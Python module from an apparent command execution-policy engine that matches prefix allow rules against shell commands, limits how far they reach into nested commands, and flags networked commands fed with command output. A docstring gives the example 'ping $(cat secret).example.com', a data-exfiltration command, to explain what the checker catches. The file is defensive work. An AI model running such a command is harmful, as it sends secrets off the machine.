"""What prefix rules say, as matches, and how far an allow rule reaches: inside, and in its tail."""

from _collections_abc import Iterator, Sequence

from execpolicy.engine.scene import RequestCommand
from execpolicy.model.decision import Decision
from execpolicy.model.operation import COMMANDS, Dynamic, Exec, Word, show
from execpolicy.model.rule import PrefixRule
from execpolicy.model.verdict import Match, Source
from execpolicy.support.record import Value


class OuterRule(Value):
    """The allow rules on the command around another that name that one, too.

    `match` is what one without conditions says; it stands in for the catalogue. `limited` are those
    with conditions, each with the words that it names.
    """

    match: Match | None
    limited: "tuple[tuple[PrefixRule, tuple[str, ...]], ...]"


class Weighed(Value):
    """What is left of the rules that begin like a command, once their conditions are looked at.

    `tight` and `allowing` are the rules without conditions, `matches` what the others say, `naming`
    the allow rules that lift what the command reads, `numbers` the effects that are answered.
    """

    tight: tuple[PrefixRule, ...]
    allowing: tuple[PrefixRule, ...]
    naming: tuple[PrefixRule, ...]
    matches: tuple[Match, ...] = ()
    numbers: frozenset[int] = frozenset()


def outer_rule(
    rules: "Sequence[PrefixRule]", argv: tuple[Word, ...], at: int, said: "Sequence[Match]"
) -> OuterRule | None:
    """How far the rules that hold for the command `argv` reach into the one that begins `at` it.

    A rule for `docker exec web pytest` names what runs inside; one for `docker exec` does not.
    `said` are the matches of the command around.
    """
    reaching = [rule for rule in rules if len(rule.pattern) > at]
    if not reaching:
        return None
    limited = tuple((r, named(r, argv)) for r in reaching if r.conditions)
    whole = len(limited) < len(reaching)
    match = (
        next((m for m in said if m.source is Source.RULE and not m.effects), None)
        if whole
        else None
    )
    return OuterRule(match, limited)


def named(rule: PrefixRule, argv: tuple[Word, ...]) -> tuple[str, ...]:
    """The words of a command that the pattern of a rule names."""
    return tuple(word for word in argv[: len(rule.pattern)] if isinstance(word, str))


def by_rule(rule: PrefixRule, argv: tuple[Word, ...], effects: tuple[str, ...] = ()) -> Match:
    """What a rule says about a command. `effects` are those that it allows, where not all."""
    words = tuple(map(show, argv[: len(rule.pattern)]))
    pattern = " ".join("|".join(tokens) for tokens in rule.pattern)
    said = (
        f"{rule.decision.word}s {', '.join(effects)}" if effects else f"says {rule.decision.word}"
    )
    why = rule.justification or f"a rule for `{pattern}` {said}"
    just = rule.justification
    return Match(Source.RULE, rule.decision, why, rule.origin, words, just, effects, argv=argv)


def uncovered(command: RequestCommand, words_named: int) -> "Iterator[Match]":
    """What a rule that names the first `words_named` words does not mean.

    That is an option that makes a program run something else, and a word computed by a command,
    where that can carry data out: `ping $(cat secret).example.com`.
    """
    from execpolicy.catalogue.conditions.granted import REACHING
    from execpolicy.catalogue.conditions.open_tail import exceeds

    argv, reading = command.operation.argv, command.reading
    words = tuple(word for word in argv[:words_named] if isinstance(word, str))
    for cause in reading.effects:
        if exceeds(cause, reading.effects, words):
            why, effects = f"{cause.effect} ({cause.why})", (cause.effect,)
            decision = command.scene.snapshot.defaults.decide(cause.effect)
            yield Match(Source.CATALOGUE, decision, why, reading.origin, effects=effects, argv=argv)
    if any(cause.effect in REACHING for cause in reading.effects):
        yield from carried_out(command.operation)


def carried_out(operation: Exec) -> "Iterator[Match]":
    """A refusal where a command that reaches another machine is given what a command prints."""
    if any(map(_from_a_command, operation.argv)):
        why = "sends what a command prints to the network"
        yield Match(Source.READER, Decision.PROMPT, why, argv=operation.argv)


def _from_a_command(word: Word) -> bool:
    """Whether the output of a command is part of a word."""
    return isinstance(word, Dynamic) and COMMANDS in word.names
